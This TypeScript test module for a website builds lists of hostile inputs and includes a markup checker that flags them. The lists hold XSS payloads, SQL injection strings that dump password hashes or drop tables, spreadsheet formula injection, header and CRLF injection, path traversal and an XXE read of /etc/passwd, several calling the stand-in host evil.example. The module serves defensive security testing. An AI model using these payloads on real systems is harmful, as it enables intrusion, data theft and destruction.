import domino from "@mixmark-io/domino";
import naughtyList from "big-list-of-naughty-strings/blns.json" with { type: "json" };
import { hashOf } from "#server/kernel/secrets.ts";
import { isFullRun, testSeed } from "./environment.mjs";

// Texts that harm programs which take them for something else: the public list, and the kinds that the site's own outputs could mistake.

/** What a script payload would call, an attribute would hold and a statement would leave behind. */
export const canary = "canary7f3a";

const scriptPayloads: readonly string[] = [
  `<script>${canary}()</script>`,
  `"><script src=//evil.example/${canary}.js></script>`,
  `'"><img src=x onerror=${canary}()>`,
  `<svg/onload=${canary}()>`,
  `<svg><animate onbegin=${canary}() attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${canary}()></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${canary}()>">`,
  `</title><script>${canary}()</script>`,
  `</textarea><script>${canary}()</script>`,
  `</script><script>${canary}()</script>`,
  `<!--><script>${canary}()</script>-->`,
  `]]><script>${canary}()</script><![CDATA[`,
  `<iframe srcdoc="<script>${canary}()</script>"></iframe>`,
  `<a href="javascript:${canary}()">x</a>`,
  `<a href="jav&#x09;ascript:${canary}()">x</a>`,
  `<form action=//evil.example/${canary}><button>x`,
  `<meta http-equiv=refresh content="0;url=//evil.example/${canary}">`,
  `<base href=//evil.example/>`,
  `<style>@import '//evil.example/${canary}.css';</style>`,
  `<p style="background:url(//evil.example/${canary})">x</p>`,
  `<object data=//evil.example/${canary}><embed src=//evil.example/${canary}>`,
  `<details open ontoggle=${canary}()>`,
  `" autofocus onfocus=${canary}() x="`,
  `' onmouseover=${canary}() x='`,
  `\` onmouseover=${canary}() x=\``,
  `javascript:${canary}()`,
  `java\tscript:${canary}()`,
  `data:text/html,<script>${canary}()</script>`,
  `\u2028</script><script>${canary}()//`,
  `{{constructor.constructor('${canary}()')()}}`,
  `\${${canary}()}`,
  `<%= ${canary} %>`,
  `![x](javascript:${canary}()) [x](data:text/html,${canary}) <javascript:${canary}()>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>&b;`,
  `__proto__`,
  `constructor.prototype.${canary}`,
];

const sqlStrings: readonly string[] = [
  `' OR '1'='1`,
  `' OR 1=1 -- `,
  `" OR ""="`,
  `') OR ('1'='1`,
  `')) OR 1=1 # `,
  `1; DROP TABLE users -- `,
  `'; CREATE TABLE ${canary} (a INT) -- `,
  `'; INSERT INTO site_facts (name, value, updated_at) VALUES ('${canary}', '1', NOW()) -- `,
  `'; UPDATE users SET role = 'platform_admin' -- `,
  `' UNION SELECT password_hash FROM users -- `,
  `' UNION ALL SELECT NULL, NULL, NULL, version() -- `,
  `1 UNION SELECT email, password_hash, 3 FROM users LIMIT 1`,
  `' OR GET_LOCK('${canary}', 0) -- `,
  `1 OR GET_LOCK('${canary}', 0)`,
  `" OR GET_LOCK('${canary}', 0) OR "`,
  `') OR GET_LOCK('${canary}', 0) -- `,
  `\\' OR GET_LOCK('${canary}', 0) -- `,
  `%bf%27 OR GET_LOCK('${canary}', 0) -- `,
  `¿' OR GET_LOCK('${canary}', 0) /*`,
  `' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT password_hash FROM users LIMIT 1))) -- `,
  `' INTO OUTFILE '/tmp/${canary}' -- `,
  `%' OR '%'='`,
  `_%\\`,
  `+"*(~<>@`,
  `@@version`,
  `0x27204f5220313d31`,
  `NULL`,
  `$gt`,
  `\\`,
  `\\\\'`,
  `\u02bc OR 1=1 -- `,
  `\uff07 OR 1=1 -- `,
];

const formulas: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("//evil.example/${canary}?"&A1,"x")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `\u00a0=1+1`,
  `＝1+1`,
  `";=1+1;"`,
  `"\r\n=1+1,"`,
];

const lineBreakers: readonly string[] = [
  `x\r\nBcc: ${canary}@evil.example`,
  `x\nX-${canary}: 1\n\n<script>${canary}()</script>`,
  `x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:${canary}`,
  `x\\nATTENDEE:mailto:${canary}@evil.example`,
  `x;VALUE=URI:https://evil.example/${canary}`,
  `"; filename="${canary}.html`,
  `x\u0085BEGIN:VALARM\u2028ACTION:${canary}\u2029`,
  `${"ü".repeat(90)},;\\n${"🏗️".repeat(30)}`,
  `%0d%0aSet-Cookie:%20${canary}=1`,
  `../../etc/passwd`,
  `..\\..\\${canary}.exe`,
  `CON`,
  `a\u202egpj.exe`,
  `\ufeff\u200b\u2060`,
  `Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘`,
];

/** The public list without its empty line: 460 strings. */
export const naughtyStrings: readonly string[] = (naughtyList as string[]).filter((text) => text !== "");
const composedStrings: readonly string[] = [...scriptPayloads, ...sqlStrings, ...formulas, ...lineBreakers];
export const hostileStrings: readonly string[] = [...composedStrings, ...naughtyStrings];

/** Returns so many of them, each once, other ones under each name and on each day; up to half are composed ones, which know this site. */
export function someHostileStrings({ daily, full }: { daily: number; full: number }, name: string): string[] {
  const size = isFullRun ? full : daily;
  const take = (from: readonly string[], count: number) => {
    const start = Number.parseInt(hashOf(`${testSeed} ${name}`).slice(0, 8), 16);
    // 101 is prime to the length of either list, so that no string comes twice.
    return Array.from({ length: Math.min(count, from.length) }, (_, at) => from[(start + at * 101) % from.length] ?? "");
  };
  return [...take(composedStrings, Math.ceil(size / 2)), ...take(naughtyStrings, Math.floor(size / 2))];
}

const plainAddress = /^(?:https?:|mailto:|tel:|#|\/(?!\/)|\?|\.|$)/i;
const addressAttributes = ["href", "src", "action", "formaction", "poster", "data", "srcset", "xlink:href", "background"];
const neverThere = "base, object, embed, applet, frame, frameset, math, animate, foreignObject, style, meta[http-equiv=refresh], [srcdoc]";

/**
 * Says what in a document a browser would run, load or send because of a text in it. Scripts may be the page's own files and data that reads
 * as JSON; addresses may lead to the web, a mailbox or a telephone.
 */
export function faultsOfMarkup(html: string, { origin, mayHaveStyle = false }: { origin: string; mayHaveStyle?: boolean }): string[] {
  const document = domino.createDocument(html);
  const faults: string[] = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    for (const { name: attribute, value } of Array.from(element.attributes)) {
      if (/^on/i.test(attribute)) faults.push(`${name} has ${attribute}`);
      if (!/^[a-z][a-z0-9:_-]*$/i.test(attribute)) faults.push(`${name} has an attribute named ${attribute}`);
      if (attribute === "style" && !mayHaveStyle && value.includes(canary)) faults.push(`${name} has the style ${value}`);
      if (addressAttributes.includes(attribute) && !isPlainAddress(name, value.trim()))
        faults.push(`${name} ${attribute} leads to ${value}`);
    }
    if (name === "script") faults.push(...faultsOfScript(element, origin));
  }
  for (const element of document.querySelectorAll(neverThere)) {
    if (element.localName !== "style" || element.textContent?.includes(canary)) faults.push(`there is a ${element.localName}`);
  }
  return faults;
}

const isPlainAddress = (element: string, value: string): boolean =>
  element === "img" || element === "link" ? /^(?:https?:|data:image\/|\/(?!\/)|#)/i.test(value) : plainAddress.test(value);

function faultsOfScript(script: Element, origin: string): string[] {
  const source = script.getAttribute("src");
  if (source !== null) return new URL(source, origin).origin === origin ? [] : [`a script comes from ${source}`];
  const type = script.getAttribute("type") ?? "";
  if (!/^application\/(?:ld\+)?json$|^speculationrules$/.test(type)) return [`a script of the type “${type}” stands in the page`];
  try {
    JSON.parse(script.textContent ?? "");
    return [];
  } catch {
    return [`a script of the type ${type} is no JSON`];
  }
}
